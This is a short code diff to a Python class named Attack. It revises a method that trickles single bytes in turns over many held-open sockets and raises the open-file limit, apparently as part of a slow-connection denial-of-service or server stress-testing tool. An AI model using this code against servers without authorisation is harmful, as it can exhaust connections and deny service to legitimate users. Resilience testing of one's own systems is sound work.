@@ -72,15 +72,15 @@ class Attack:
         self.did["deaf_stuck"] = sum(s.fileno() >= 0 for s in deaf)
 
     def drip(self, slow):
-        """A byte of each by turns."""
-        turns, due = itertools.cycle(slow), 0.0
+        """A byte of each by turns, evenly: clients that know nothing of each other do not send together."""
+        turns, begin, n_sent = itertools.cycle(slow), time.monotonic(), 0
         while not self.stop:
-            due += len(slow) * 0.1 / self.o.every
-            for s in itertools.islice(turns, int(due)):
+            n_due = int(len(slow) * (time.monotonic() - begin) / self.o.every)
+            for s in itertools.islice(turns, n_due - n_sent):
                 if s.fileno() >= 0:
                     self.send(s, b"x", "slow_bytes")
-            due %= 1
-            time.sleep(0.1)
+            n_sent = n_due
+            time.sleep(0.001)
 
     def run(self):
         resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
